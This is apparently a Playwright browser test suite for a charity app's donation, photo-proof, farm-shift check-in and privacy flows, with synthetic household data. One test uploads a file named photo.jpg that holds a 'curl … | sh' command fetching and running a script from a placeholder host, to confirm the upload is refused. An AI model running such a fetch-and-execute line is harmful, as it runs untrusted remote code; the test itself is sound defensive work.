"""Browser tests of the fulfilment loop, on the real app (``live_server``: its own process,
demo data, CSRF on) driven through the machine's Chromium by Playwright.

A donor claims a micro-wish, hands it over and proves it with a photo, and the caseworker
confirms; a script dressed up as a photo is refused; a volunteer team signs up for a farm
shift, checks in with the code read out on site and checks out; an in-person donor sees the
household's address only once the caseworker accepted the claim. At no point does a donor
see who the household is.

Run: ``REQUIRE_BROWSER=1 python -m pytest tests/test_browser_claims.py``. The browser, the
skip/fail rule and the sign-in steps are those of ``tests/test_browser.py``.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from babel.support import Translations
from PIL import Image

# Importing this module skips (or, with REQUIRE_BROWSER=1, fails) without a browser; the
# Playwright names come through it so that nothing here is imported before that check.
from tests import test_browser as shared
from tests.test_browser import (
    CASEWORKER,
    DISTRICT,
    VERIFIER,
    Browser,
    BrowserContext,
    HouseholdInput,
    Page,
    WishInput,
    draft_and_submit_wish,
    expect,
    record_household,
    resident_id,
    sign_in,
    submit_form,
)

# The colleague's fixtures, used here as they are: the module-scoped Chromium and the
# contexts that fail a test on any 5xx or script error.
browser = shared.browser
new_context = shared.new_context

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parent.parent
_ZH = Translations.load(str(ROOT / "translations"), ["zh"])
CODE = r"[2-9A-HJKMNP-Z]"  # the alphabet of handover and check-in codes


def zh(msgid: str) -> str:
    """What the server shows a zh-CN browser for ``msgid`` (the English text while the
    string has no Chinese translation yet), from the same catalogue the server reads."""
    return _ZH.gettext(msgid)


def zh_pattern(msgid: str, **placeholders: str) -> re.Pattern[str]:
    """``zh(msgid)`` as a regex, each ``%(name)s`` replaced by the given pattern."""
    text = re.escape(zh(msgid))
    for name, pattern in placeholders.items():
        text = text.replace(re.escape(f"%({name})s"), pattern)
    return re.compile(text)


def beijing_today() -> date:
    return datetime.now(ZoneInfo("Asia/Shanghai")).date()


NewContext = Callable[..., BrowserContext]


def new_page(new_context: NewContext) -> Page:
    return new_context().new_page()


def assert_anonymous(
    page: Page, household: HouseholdInput, *, address_allowed: bool = False
) -> None:
    """Nothing that identifies the household is in the page, shown or hidden."""
    html = page.content()
    secrets = [household.name, household.phone, household.id_number]
    if not address_allowed:
        secrets.append(household.address)
    for secret in secrets:
        assert secret not in html, f"{page.url} shows the household's {secret!r}"


# --- steps shared by the tests ---------------------------------------------------------


def approve(new_context: NewContext, need_id: int) -> None:
    """The province verifier publishes the submitted need."""
    verifier = new_page(new_context)
    sign_in(verifier, VERIFIER)
    verifier.goto(f"/work/needs/{need_id}")
    verifier.locator("input[name=privacy_checked]").check()
    with verifier.expect_navigation():
        verifier.locator("button[data-action=approve]").click()
    expect(verifier.locator("#need-state")).to_have_class(re.compile(r"\bstate-published\b"))
    verifier.context.close()


def publish_wish(
    new_context: NewContext, household: HouseholdInput, wish: WishInput
) -> tuple[Page, int]:
    """Through the UI: the caseworker records the household and the wish and submits it,
    the verifier approves it. Returns the caseworker's page (still signed in) and the id."""
    caseworker = new_page(new_context)
    sign_in(caseworker, CASEWORKER)
    household_id = record_household(caseworker, household)
    need_id = draft_and_submit_wish(caseworker, household_id, wish)
    approve(new_context, need_id)
    return caseworker, need_id


def claim_wish(page: Page, need_id: int, method: str) -> int:
    """As a signed-in donor on the public need page: claim it; returns the claim id."""
    page.goto(f"/needs/{need_id}")
    form = page.locator("form.claim-form")
    expect(form.locator("button[type=submit]")).to_have_text(zh("Claim this need"))
    form.locator("select[name=method]").select_option(method)
    submit_form(page, "form.claim-form", 200)
    match = re.search(r"/claims/(\d+)$", page.url)
    assert match, page.url
    return int(match.group(1))


def write_jpeg(path: Path, size: tuple[int, int] = (64, 48)) -> Path:
    Image.new("RGB", size, (200, 120, 40)).save(path, format="JPEG", quality=80)
    return path


@dataclass(frozen=True)
class FarmInput:
    title: str
    story: str
    task: str
    volunteers: str = "8"
    hours: str = "4"


def publish_farm_help(
    new_context: NewContext, household: HouseholdInput, farm: FarmInput
) -> tuple[Page, int]:
    """Through the UI: a farm-help need whose work starts today (Beijing), submitted and
    approved. Returns the caseworker's page (signed in, on the need) and the need id."""
    caseworker = new_page(new_context)
    sign_in(caseworker, CASEWORKER)
    household_id = record_household(caseworker, household)
    with caseworker.expect_navigation():
        caseworker.locator(
            f"main a[href='/work/households/{household_id}/needs/new?kind=farm_help']"
        ).click()
    form = caseworker.locator("#need-form")
    expect(form.locator("select[name=kind]")).to_have_value("farm_help")
    expect(caseworker.locator("fieldset[data-kind=farm_help]")).to_be_visible()
    expect(caseworker.locator("fieldset[data-kind=micro_wish]")).to_be_hidden()
    today = beijing_today()
    form.locator("input[name=title]").fill(farm.title)
    form.locator("textarea[name=story]").fill(farm.story)
    form.locator("select[name=category]").select_option("living")
    form.locator("select[name=urgency]").select_option("high")
    form.locator("input[name=task]").fill(farm.task)
    form.locator("input[name=window_start]").fill(today.isoformat())
    form.locator("input[name=window_end]").fill((today + timedelta(days=2)).isoformat())
    form.locator("input[name=volunteers_needed]").fill(farm.volunteers)
    form.locator("input[name=hours_per_volunteer]").fill(farm.hours)
    submit_form(caseworker, "#need-form", 200)
    match = re.search(r"/work/needs/(\d+)$", caseworker.url)
    assert match, (caseworker.url, caseworker.inner_text("main")[:500])
    need_id = int(match.group(1))
    with caseworker.expect_navigation():
        caseworker.locator("button[data-action=submit]").click()
    expect(caseworker.locator("#need-state")).to_have_class(re.compile(r"\bstate-submitted\b"))
    approve(new_context, need_id)
    caseworker.reload()
    expect(caseworker.locator("#need-state")).to_have_class(re.compile(r"\bstate-published\b"))
    return caseworker, need_id


def add_shift_today(caseworker: Page, places: int) -> tuple[int, str]:
    """On the caseworker's need page: a shift today 08:00-12:00; returns its id and the
    check-in code the page shows."""
    form = caseworker.locator("#shifts form.shift-form")
    form.locator("input[name=day]").fill(beijing_today().isoformat())
    form.locator("input[name=start_time]").fill("08:00")
    form.locator("input[name=end_time]").fill("12:00")
    form.locator("input[name=places]").fill(str(places))
    form.locator("input[name=meeting_point]").fill("村委会门口")
    submit_form(caseworker, "#shifts form.shift-form", 200)
    shift = caseworker.locator("#shifts .shift")
    expect(shift).to_have_count(1)
    expect(shift).to_contain_text(f"{beijing_today().isoformat()} 08:00–12:00")
    expect(shift).to_contain_text(
        zh("%(taken)s of %(places)s places taken") % {"taken": 0, "places": places}
    )
    code = shift.locator("code.checkin-code").inner_text().strip()
    assert re.fullmatch(f"{CODE}{{6}}", code), code
    shift_id = int((shift.get_attribute("id") or "").removeprefix("shift-"))
    return shift_id, code


def sign_up_self(team: Page, need_id: int, shift_id: int, leader_name: str, places: int) -> None:
    """A signed-in team leader ticks themselves on the public need page and signs up."""
    team.goto(f"/needs/{need_id}")
    shift = team.locator(f"#shift-{shift_id}")
    left = zh("%(left)s of %(places)s places left")
    expect(shift).to_contain_text(left % {"left": places, "places": places})
    form = shift.locator("form.signup-form")
    member = form.locator("label.check").filter(has_text=leader_name)
    expect(member).to_have_count(1)  # the team has only its leader
    member.locator("input[name=member_ids]").check()
    submit_form(team, f"#shift-{shift_id} form.signup-form", 200)
    expect(team).to_have_url(re.compile(rf"/needs/{need_id}$"))
    signed_up = _ZH.ngettext("%(num)s member signed up.", "%(num)s members signed up.", 1)
    expect(team.locator(".flash")).to_have_text(signed_up % {"num": 1})
    expect(team.locator(f"#shift-{shift_id}")).to_contain_text(
        left % {"left": places - 1, "places": places}
    )


# --- 1. hand-over, photo proof, confirmation ------------------------------------------


def test_donor_hands_over_a_wish_with_a_photo_and_the_caseworker_confirms(
    new_context: NewContext, tmp_path: Path
) -> None:
    household = HouseholdInput(
        name="上官秀兰",
        id_number=resident_id(DISTRICT, "19520611", 611),
        phone="13822460611",
        address="广州市天河区员村二横路11号403房",
    )
    wish = WishInput(
        title="老人的助行器（认领测试）",
        story="老人膝盖不好，出门买菜很吃力，希望有一个带座椅的助行器。",
        category="medical",
        item="带座助行器",
        value="260",
    )
    caseworker, need_id = publish_wish(new_context, household, wish)

    # donor5 claims it, to hand it over at the station.
    donor = new_page(new_context)
    sign_in(donor, "donor5@demo.example")
    donor.goto(f"/needs/{need_id}")
    assert_anonymous(donor, household)
    claim_id = claim_wish(donor, need_id, "handover")
    code = donor.locator("#handover-code").inner_text().strip()
    assert re.fullmatch(f"{CODE}{{8}}", code), code
    expect(donor.locator(".flash")).to_contain_text(code)
    expect(donor.locator("#claim-status")).to_have_text(zh("In progress"))
    expect(donor.locator("#exact-address")).to_have_count(0)
    assert_anonymous(donor, household)

    # Marked delivered, with a note and a real photo.
    photo = write_jpeg(tmp_path / "handover.jpg")
    note = "已交到天河区石牌街服务站，工作人员签收。"
    donor.locator("textarea[name=note]").fill(note)
    donor.locator("input[name=photos]").set_input_files(photo)
    with donor.expect_navigation() as navigation:
        donor.locator("button[data-action=deliver]").click()
    assert navigation.value is not None and navigation.value.status == 200
    expect(donor).to_have_url(re.compile(rf"/claims/{claim_id}$"))
    expect(donor.locator("#claim-status")).to_have_text(zh("Delivered, awaiting confirmation"))
    expect(donor.locator("button[data-action=deliver]")).to_have_count(0)
    expect(donor.locator(".photos img")).to_have_count(1)
    assert_anonymous(donor, household)

    # The caseworker sees the delivery, with the note and the photo, and confirms.
    caseworker.goto(f"/work/needs/{need_id}")
    expect(caseworker.locator("#need-state")).to_have_class(re.compile(r"\bstate-delivered\b"))
    panel = caseworker.locator("#claim-panel")
    expect(panel.locator("#claim-status")).to_have_text(zh("Delivered, awaiting confirmation"))
    expect(panel).to_contain_text(code)
    expect(panel).to_contain_text(note)
    image = panel.locator(".photos img")
    expect(image).to_have_count(1)
    src = image.get_attribute("src") or ""
    assert re.fullmatch(r"/attachments/\d+", src), src
    caseworker.wait_for_function(
        "img => img.complete && img.naturalWidth === 64", arg=image.element_handle()
    )
    served = caseworker.request.get(src)
    assert served.status == 200, served.status
    assert served.headers["content-type"] == "image/jpeg"
    assert "no-store" in served.headers["cache-control"]
    # A stranger's browser gets no photo.
    stranger = new_page(new_context).request.get(src, max_redirects=0)
    assert stranger.status in (302, 401, 403), stranger.status

    with caseworker.expect_navigation():
        panel.locator("button[data-action=confirm]").click()
    expect(caseworker.locator("#need-state")).to_have_class(re.compile(r"\bstate-confirmed\b"))
    expect(caseworker.locator("#need-state")).to_have_text(zh("Confirmed"))
    assert zh("Confirmed") == "已确认"
    expect(caseworker.locator("#claim-panel")).to_have_count(0)  # no live claim any more

    # The donor's list and claim page say confirmed; still nothing about the household.
    with donor.expect_navigation():
        donor.locator("header nav a[href='/claims/mine']").click()
    row = donor.locator(f"#claim-{claim_id}")
    expect(row).to_contain_text(wish.title)
    expect(row).to_contain_text("已确认")
    expect(row).to_contain_text(code)
    assert_anonymous(donor, household)
    donor.goto(f"/claims/{claim_id}")
    expect(donor.locator("#claim-status")).to_have_text("已确认")
    assert_anonymous(donor, household)
    donor.goto(f"/needs/{need_id}")
    expect(donor.locator(".need-detail .badge.state-confirmed")).to_have_text("已确认")
    assert_anonymous(donor, household)
    donor.goto("/notifications")
    expect(donor.locator("main article").first).to_be_visible()
    assert_anonymous(donor, household)


# --- 2. a script is not a photo -------------------------------------------------------


def test_a_script_named_photo_jpg_is_refused_and_the_claim_stays_open(
    new_context: NewContext, tmp_path: Path
) -> None:
    household = HouseholdInput(
        name="诸葛春梅",
        id_number=resident_id(DISTRICT, "19660203", 612),
        phone="13822460612",
        address="广州市天河区沙河街道濂泉路12号",
    )
    wish = WishInput(
        title="学生的书包和文具（认领测试）",
        story="孩子上小学三年级，书包已经破了，希望有一个新书包和一套文具。",
        item="书包和文具",
        value="120",
    )
    caseworker, need_id = publish_wish(new_context, household, wish)

    donor = new_page(new_context)
    sign_in(donor, "donor6@demo.example")
    claim_id = claim_wish(donor, need_id, "handover")

    script = tmp_path / "photo.jpg"
    script.write_bytes(b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")
    donor.locator("textarea[name=note]").fill("已送到服务站")
    donor.locator("input[name=photos]").set_input_files(script)
    with donor.expect_navigation() as navigation:
        donor.locator("button[data-action=deliver]").click()
    response = navigation.value
    assert response is not None and response.status == 422, response and response.status
    expect(donor.locator(".error-page h1")).to_have_text(
        zh("Only JPEG, PNG or WebP photos are accepted.")
    )

    # Nothing was recorded: the claim is still in progress, without photos, and can still
    # be marked delivered.
    donor.goto("/claims/mine")
    expect(donor.locator(f"#claim-{claim_id}")).to_contain_text(zh("In progress"))
    donor.goto(f"/claims/{claim_id}")
    expect(donor.locator("#claim-status")).to_have_text(zh("In progress"))
    expect(donor.locator(".photos img")).to_have_count(0)
    expect(donor.locator("button[data-action=deliver]")).to_be_visible()
    caseworker.goto(f"/work/needs/{need_id}")
    expect(caseworker.locator("#need-state")).to_have_class(re.compile(r"\bstate-claimed\b"))
    expect(caseworker.locator("#claim-panel #claim-status")).to_have_text(zh("In progress"))
    expect(caseworker.locator("#claim-panel .photos img")).to_have_count(0)
    expect(caseworker.locator("#claim-panel button[data-action=confirm]")).to_have_count(0)


# --- 3. farm help: a shift, sign-up, check-in and check-out ---------------------------


def test_team_signs_up_for_a_farm_shift_and_checks_in_and_out(new_context: NewContext) -> None:
    household = HouseholdInput(
        name="欧阳大山",
        id_number=resident_id(DISTRICT, "19580917", 613),
        phone="13822460613",
        address="广州市天河区凤凰街道柯木塱村3巷8号",
    )
    farm = FarmInput(
        title="荔枝园采摘帮忙（签到测试）",
        story="家中主要劳动力受伤，果园的荔枝快熟透了，需要志愿者帮忙采摘和搬运。",
        task="采摘荔枝",
    )
    caseworker, need_id = publish_farm_help(new_context, household, farm)
    shift_id, code = add_shift_today(caseworker, places=5)

    team = new_page(new_context)
    sign_in(team, "team3@demo.example")
    sign_up_self(team, need_id, shift_id, "志愿队长3", places=5)
    html = team.content()
    assert code not in html, "the check-in code is given out on site, not on the public page"
    assert_anonymous(team, household)

    # My claims -> the shift -> the check-in page.
    with team.expect_navigation():
        team.locator("header nav a[href='/claims/mine']").click()
    booking = team.locator("li[id^=signup-]").filter(
        has=team.locator(f"a[href='/needs/{need_id}']")
    )
    expect(booking).to_have_count(1)
    expect(booking).to_contain_text(zh("Booked"))
    with team.expect_navigation():
        booking.locator(f"a[href='/shifts/{shift_id}/check']").click()
    expect(team.locator("main h1")).to_have_text(farm.title)
    state = team.locator("#signup-state")
    expect(state).to_have_text(zh("Not checked in yet."))
    check_form = team.locator("main form:has(input[name=code])")

    # A wrong code is refused and changes nothing.
    check_form.locator("input[name=code]").fill("zzzzzz")
    submit_form(team, "main form:has(input[name=code])", 422)
    expect(team.locator(".error-page")).to_contain_text(
        zh("That is not this shift's check-in code.")
    )
    team.goto(f"/shifts/{shift_id}/check")
    expect(state).to_have_text(zh("Not checked in yet."))

    # The code as read out, typed in lower case, checks in...
    check_form.locator("input[name=code]").fill(code.lower())
    submit_form(team, "main form:has(input[name=code])", 200)
    expect(team.locator(".flash")).to_have_text(zh("Checked in. Thank you for coming!"))
    expect(state).to_have_text(zh_pattern("Checked in at %(time)s.", time=r"\d\d:\d\d"))
    expect(check_form.locator("button[type=submit]")).to_have_text(zh("Check out"))

    # ...and out; minutes later at most, so some hours, maybe 0.
    check_form.locator("input[name=code]").fill(code.lower())
    submit_form(team, "main form:has(input[name=code])", 200)
    hours = zh_pattern("Checked out: %(hours)s hours recorded.", hours=r"\d+(?:\.\d+)?")
    expect(team.locator(".flash")).to_have_text(hours)
    expect(state).to_have_text(hours)
    expect(check_form).to_have_count(0)

    # The caseworker sees the leader under the shift, with hours.
    caseworker.goto(f"/work/needs/{need_id}")
    expect(caseworker.locator("#need-state")).to_have_class(re.compile(r"\bstate-claimed\b"))
    shift = caseworker.locator(f"#shift-{shift_id}")
    expect(shift).to_contain_text(
        zh("%(taken)s of %(places)s places taken") % {"taken": 1, "places": 5}
    )
    volunteer = shift.locator("li").filter(has_text="志愿队长3")
    expect(volunteer).to_have_count(1)
    expect(volunteer).to_contain_text(zh_pattern("%(hours)s hours", hours=r"\d+(?:\.\d+)?"))

    # Work done, then confirmed: the need is confirmed and the hours stay on the team's list.
    with caseworker.expect_navigation():
        caseworker.locator("button[data-action=farm-done]").click()
    expect(caseworker.locator("#need-state")).to_have_class(re.compile(r"\bstate-delivered\b"))
    with caseworker.expect_navigation():
        caseworker.locator("button[data-action=farm-confirm]").click()
    expect(caseworker.locator("#need-state")).to_have_class(re.compile(r"\bstate-confirmed\b"))
    expect(caseworker.locator("#need-state")).to_have_text("已确认")
    team.goto("/claims/mine")
    expect(booking).to_contain_text(zh_pattern("%(hours)s hours", hours=r"\d+(?:\.\d+)?"))


def test_a_check_in_code_typed_in_full_width_is_not_a_server_error(
    new_context: NewContext, browser: Browser, live_server: str
) -> None:
    household = HouseholdInput(
        name="慕容阿福",
        id_number=resident_id(DISTRICT, "19610405", 615),
        phone="13822460615",
        address="广州市天河区龙洞街道迎福路15号",
    )
    farm = FarmInput(
        title="菜地除草帮忙（签到测试）",
        story="老人独自打理一块菜地，杂草长得比菜快，希望志愿者帮忙除草。",
        task="菜地除草",
    )
    caseworker, need_id = publish_farm_help(new_context, household, farm)
    shift_id, code = add_shift_today(caseworker, places=2)
    # The team's browser is not watched for 5xx by ``new_context``: the 500 is the bug
    # this test shows, and is asserted below.
    context = browser.new_context(base_url=live_server, locale="zh-CN", timezone_id="Asia/Shanghai")
    try:
        context.set_default_timeout(10_000)
        team = context.new_page()
        sign_in(team, "team4@demo.example")
        sign_up_self(team, need_id, shift_id, "志愿队长4", places=2)
        team.goto(f"/shifts/{shift_id}/check")
        # A Chinese input method in full-width mode types ＡＢＣ rather than ABC.
        full_width = "".join(chr(ord(c) + 0xFEE0) for c in code)
        team.locator("main input[name=code]").fill(full_width)
        response = submit_form(team, "main form:has(input[name=code])")
        if response.status == 500:
            pytest.xfail(
                "app bug: _check_code (app/claims/services.py) passes a non-ASCII code to "
                "secrets.compare_digest, which raises TypeError: a 500, not a refusal"
            )
        # Accepted as the same code (NFKC), or refused next to the field: either is fine.
        assert response.status in (200, 422), f"{response.status}: " + team.inner_text("main")
    finally:
        context.close()


# --- 4. in person: the address only after acceptance -----------------------------------


def test_in_person_donor_sees_the_address_only_after_the_caseworker_accepts(
    new_context: NewContext,
) -> None:
    household = HouseholdInput(
        name="皇甫桂英",
        id_number=resident_id(DISTRICT, "19470808", 614),
        phone="13822460614",
        address="广州市天河区车陂街道东圃大马路14号201房",
    )
    wish = WishInput(
        title="独居老人的电饭煲（认领测试）",
        story="老人的电饭煲坏了，每天只能用小锅煮粥，希望有一个简单好用的电饭煲。",
        category="living",
        item="电饭煲",
        value="200",
    )
    caseworker, need_id = publish_wish(new_context, household, wish)

    donor = new_page(new_context)
    sign_in(donor, "donor7@demo.example")
    claim_id = claim_wish(donor, need_id, "in_person")
    expect(donor.locator("#claim-status")).to_have_text(zh("Waiting for the caseworker"))
    expect(donor.locator("#exact-address")).to_have_count(0)
    expect(donor.locator("button[data-action=deliver]")).to_have_count(0)
    assert_anonymous(donor, household)

    # Another donor cannot open the claim.
    other = new_page(new_context)
    sign_in(other, "donor8@demo.example")
    response = other.goto(f"/claims/{claim_id}")
    assert response is not None and response.status == 403, response and response.status
    assert_anonymous(other, household)

    caseworker.goto(f"/work/needs/{need_id}")
    panel = caseworker.locator("#claim-panel")
    expect(panel.locator("#claim-status")).to_have_text(zh("Waiting for the caseworker"))
    with caseworker.expect_navigation():
        panel.locator("button[data-action=accept]").click()
    expect(caseworker.locator(".flash")).to_have_text(zh("Claim accepted."))
    expect(caseworker.locator("#claim-panel #claim-status")).to_have_text(zh("In progress"))
    expect(caseworker.locator("#claim-panel button[data-action=accept]")).to_have_count(0)

    # Now the donor, and only the donor, has the address (still no name, ID or phone).
    donor.reload()
    expect(donor.locator("#claim-status")).to_have_text(zh("In progress"))
    expect(donor.locator("#exact-address")).to_have_text(household.address)
    expect(donor.locator("button[data-action=deliver]")).to_be_visible()
    assert_anonymous(donor, household, address_allowed=True)
    donor.goto(f"/needs/{need_id}")
    assert_anonymous(donor, household)
    other.goto(f"/needs/{need_id}")
    assert_anonymous(other, household)
